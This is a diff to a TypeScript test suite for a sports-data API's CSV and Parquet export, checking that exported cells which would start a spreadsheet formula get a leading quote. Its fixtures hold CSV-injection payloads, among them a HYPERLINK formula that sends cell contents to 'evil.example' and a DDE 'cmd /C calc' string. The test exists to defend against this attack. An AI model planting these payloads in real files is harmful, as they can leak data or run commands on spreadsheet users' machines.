@@ -19,6 +19,20 @@ import { expectError } from './contract.js';
  */
 const ODD = 'Zürich "FC", 東京\r\nsecond line; 😀 \u2028 é';
 
+/** What a spreadsheet would run as a formula (OWASP "CSV Injection"), planted in each entity below. */
+const FORMULA = {
+  name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  reason: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  clock: '+1+1',
+  label: '-2+3',
+  player: '\tplayer:=1+1',
+  team: '=1+2',
+  eventClock: '\r=cmd',
+  statusReason: '=HYPERLINK("http://evil.example","Details")',
+};
+/** The CSV's text of a cell (docs/decisions.md "Export formats"): a single quote before what would start a formula; a plain number as it is. */
+const spreadsheetText = (text: string): string => (/^[=+\-@\t\r]/.test(text) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(text) ? `'${text}` : text);
+
 type Row = Record<string, unknown>;
 
 const isRow = (v: unknown): v is Row => v !== null && typeof v === 'object' && !Array.isArray(v);
@@ -59,14 +73,25 @@ describe.each(engines())('GET /v1/export?format=csv|parquet read back by DuckDB 
       await t.db.kysely.insertInto('competitions').values({ ...game, id, n: game.n + (suffix === 'odd' ? 100_000 : 100_001), name, venue_id: null, start_time: null, source_key: null }).execute();
       await t.db.kysely.insertInto('competitors').values(competitors.map((c) => ({ ...c, competition_id: id }))).execute();
     }
-    // A play with no player and no clock, an odd source and event type.
+    // A competition whose name and status reason a spreadsheet would run as formulas.
+    const formulaId = `${game.id}_formula`;
+    await t.db.kysely.insertInto('competitions').values({ ...game, id: formulaId, n: game.n + 100_002, name: FORMULA.name, status_reason: FORMULA.reason, source_key: null }).execute();
+    await t.db.kysely.insertInto('competitors').values(competitors.map((c) => ({ ...c, competition_id: formulaId }))).execute();
+    // A play with no player and no clock, an odd source and event type; one with formulas in its clock, period label and player.
     const last = await t.db.kysely.selectFrom('plays').selectAll().where('competition_id', '=', game.id).orderBy('seq', 'desc').limit(1).executeTakeFirstOrThrow();
     await t.db.kysely.insertInto('plays').values({ ...last, seq: last.seq + 1, player_id: null, clock: null, source: ODD, event_type: 'own,goal "x"', points: 0 }).execute();
+    await t.db.kysely.insertInto('plays').values({ ...last, seq: last.seq + 2, player_id: FORMULA.player, clock: FORMULA.clock, period_label: FORMULA.label, points: -1 }).execute();
     // Events through the event log: an odd team, a null clock, a provisional link, a non-integral agreement.
     const at = { game_id: `soccer_${game.n}`, competition_id: game.id, season_id: 'wc_2022', sport: 'soccer', league: 'wc', tier: 'confirmed' as const };
     await t.services.events.append([
       { ...at, type: 'score', team: ODD, event_type: 'goal', points: 1, clock: null, ts: '2022-11-20T16:03:04.567Z', agreement: 2 / 3, reporters: 3, latency_ms: 1234, provisional_id: 'evt_x"y', retracted_id: null },
       { ...at, type: 'score_retracted', team: '', event_type: 'a,b', points: -1, clock: "45+2'", ts: '2022-11-20T16:59:59.999Z', agreement: 0, reporters: 0, latency_ms: 0, provisional_id: null, retracted_id: 'evt_z' },
+      { ...at, type: 'score', team: FORMULA.team, event_type: '-1', points: -2, clock: FORMULA.eventClock, ts: '2022-11-20T17:00:00.000Z', agreement: 1, reporters: 3, latency_ms: 1, provisional_id: null, retracted_id: null },
+      // A status change, with the fields only status events have.
+      {
+        ...at, type: 'status', team: '', event_type: 'status', points: 0, clock: null, ts: '2022-11-20T17:00:01.000Z', agreement: 1, reporters: 0, latency_ms: 0, provisional_id: null, retracted_id: null,
+        status: 'final', previous_status: 'suspended', start_time: '2022-11-20T16:00:00.000Z', reason: FORMULA.statusReason,
+      },
     ]);
   }, 120_000);
   afterAll(async () => {
@@ -99,7 +124,7 @@ describe.each(engines())('GET /v1/export?format=csv|parquet read back by DuckDB 
     const text = String(cell);
     if (c.kind === 'json') expect(JSON.parse(text), where).toEqual(want);
     else if (c.kind === 'integer' || c.kind === 'number') expect(Number(text), where).toBe(want);
-    else expect(text, where).toBe(String(want));
+    else expect(text, where).toBe(spreadsheetText(String(want)));
   }
 
   /** A Parquet value (as selected below) against the NDJSON value. */
@@ -127,6 +152,10 @@ describe.each(engines())('GET /v1/export?format=csv|parquet read back by DuckDB 
     it(`${entity}: CSV has a header of dotted columns and the NDJSON's values row for row`, async () => {
       const want = await ndjson(query);
       expect(want.length).toBeGreaterThan(60);
+      // Every field of every record has its column: the CSV and Parquet carry what the NDJSON does (a status event's too).
+      const leaves = (r: Row, prefix = ''): string[] => Object.entries(r).flatMap(([k, v]) => (isRow(v) && k !== 'state' ? leaves(v, `${prefix}${k}.`) : [`${prefix}${k}`]));
+      const names = new Set(columns.map((c) => c.name));
+      expect([...new Set(want.flatMap((r) => leaves(r)))].filter((n) => !names.has(n))).toEqual([]);
       const f = await file(query, 'csv', entity);
       const raw = fs.readFileSync(f, 'utf8');
       expect(raw.slice(0, raw.indexOf('\r\n'))).toBe(columns.map((c) => c.name).join(','));
@@ -142,6 +171,14 @@ describe.each(engines())('GET /v1/export?format=csv|parquet read back by DuckDB 
       // The odd values made it through as themselves.
       const text = JSON.stringify(got);
       expect(text).toContain(JSON.stringify(ODD).slice(1, -1));
+      // No cell would start a formula in a spreadsheet: those that would carry a single quote in front (numbers stay numbers).
+      const cells = got.flatMap((r) => Object.values(r)).filter((v): v is string => typeof v === 'string');
+      expect(cells.filter((v) => v !== spreadsheetText(v))).toEqual([]);
+      const planted = { events: [FORMULA.team, FORMULA.eventClock, FORMULA.statusReason], plays: [FORMULA.clock, FORMULA.label, FORMULA.player], competitions: [FORMULA.name, FORMULA.reason] }[entity];
+      for (const f of planted) expect(cells).toContain(`'${f}`);
+      // Negative numbers stay numbers: the planted play's points, the planted event's points and its event type '-1' (a plain number).
+      if (entity !== 'competitions') expect(cells).toContain(entity === 'plays' ? '-1' : '-2');
+      if (entity === 'events') expect(cells).toContain('-1');
     });
 
     it(`${entity}: Parquet has typed columns (integers, UTC timestamps) and the NDJSON's values row for row`, async () => {
